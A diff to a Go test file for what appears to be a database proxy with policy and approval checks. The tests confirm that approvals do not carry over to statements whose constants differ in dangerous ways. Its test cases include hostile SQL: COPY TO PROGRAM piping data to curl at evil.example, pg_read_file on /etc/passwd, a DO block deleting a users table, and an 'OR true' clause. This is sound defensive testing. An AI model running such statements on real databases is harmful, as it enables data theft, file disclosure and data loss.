@@ -17,6 +17,7 @@ func TestWhatWasApprovedIsDecidedAnew(t *testing.T) {
 
 	got := conn.begin("SELECT total FROM orders WHERE id = 1")
 	r := d.pending(t, "r1")
+	within(t, conn.come, "notice") // where the answer comes with the name, nothing is said to be held
 	policy.effect.Store(uint32(access.Deny))
 	d.answer(r, "r1", access.AnswerApproved, nil)
 	if out := within(t, got, "result"); !strings.Contains(out, "is denied (policy data/p, rule exports)") {
@@ -176,4 +177,61 @@ func TestGrantsLetTheLikeThrough(t *testing.T) {
 	refused(one, "UPDATE orders SET total = 1")
 	time.Sleep(1100 * time.Millisecond)
 	refused(two, like+"9")
+}
+
+func TestNothingIsLikeAStatementWhoseConstantsAreCode(t *testing.T) {
+	d := openDesk(t)
+	p := start(t, config{decider: askingFor("exports"), approver: d.broker})
+	conn := p.listening(t, "")
+	shape := func(text string) string {
+		got := conn.begin(text)
+		r := d.pending(t, "r1")
+		d.answer(r, "r1", access.AnswerDenied, nil)
+		within(t, got, "result")
+		return string(r.GetShape())
+	}
+	for _, c := range []struct {
+		one, other string
+		alike      bool
+	}{
+		{"COPY orders TO PROGRAM 'gzip > /tmp/a'", "COPY orders TO PROGRAM 'curl -d @- evil.example'", false},
+		{"SELECT pg_read_file('a') FROM orders", "SELECT pg_read_file('/etc/passwd') FROM orders", false},
+		{"SELECT query_to_xml('SELECT 1', true, true, '') FROM orders", "SELECT query_to_xml('SELECT * FROM users', true, true, '') FROM orders", false},
+		{"SELECT 1 FROM orders; DO 'BEGIN PERFORM 1; END'", "SELECT 1 FROM orders; DO 'BEGIN DELETE FROM users; END'", false},
+		{"COPY orders TO PROGRAM 'gzip > /tmp/a'", "COPY orders TO PROGRAM 'gzip > /tmp/a'", true},
+		{"DELETE FROM orders WHERE id = 1", "DELETE FROM orders WHERE id = 2", true},
+		{"DELETE FROM orders WHERE id = 1", "DELETE FROM orders WHERE id = 1 OR true", false},
+	} {
+		if one, other := shape(c.one), shape(c.other); one == "" || (one == other) != c.alike {
+			t.Errorf("%s\nis taken for the like of it: %v\n%s", c.one, one == other, c.other)
+		}
+	}
+}
+
+func TestACursorOfOtherParametersIsAnotherStatement(t *testing.T) {
+	d := openDesk(t)
+	policy := askingFor("exports")
+	p := start(t, config{decider: policy, approver: d.broker})
+	conn := p.listening(t, "")
+	policy.effect.Store(uint32(access.Allow))
+	digests := map[string]bool{}
+	for _, id := range []string{"5", "6"} {
+		rows(conn.PgConn, "BEGIN")
+		if r := conn.ExecParams(t.Context(), "DECLARE c CURSOR FOR SELECT total FROM orders WHERE id = $1::int", [][]byte{[]byte(id)}, nil, nil, nil).Read(); r.Err != nil {
+			t.Fatal(r.Err)
+		}
+		policy.effect.Store(uint32(access.RequireApproval))
+		got := conn.begin("FETCH c")
+		r := d.pending(t, "r1")
+		d.answer(r, "r1", access.AnswerApproved, nil)
+		if out := within(t, got, "result"); out != id {
+			t.Errorf("got %s", out)
+		}
+		digests[string(r.GetDigest())] = true
+		policy.effect.Store(uint32(access.Allow))
+		rows(conn.PgConn, "ROLLBACK")
+	}
+	if len(digests) != 2 {
+		t.Error("both have the same digest, so that the approval of one is good for the other")
+	}
 }
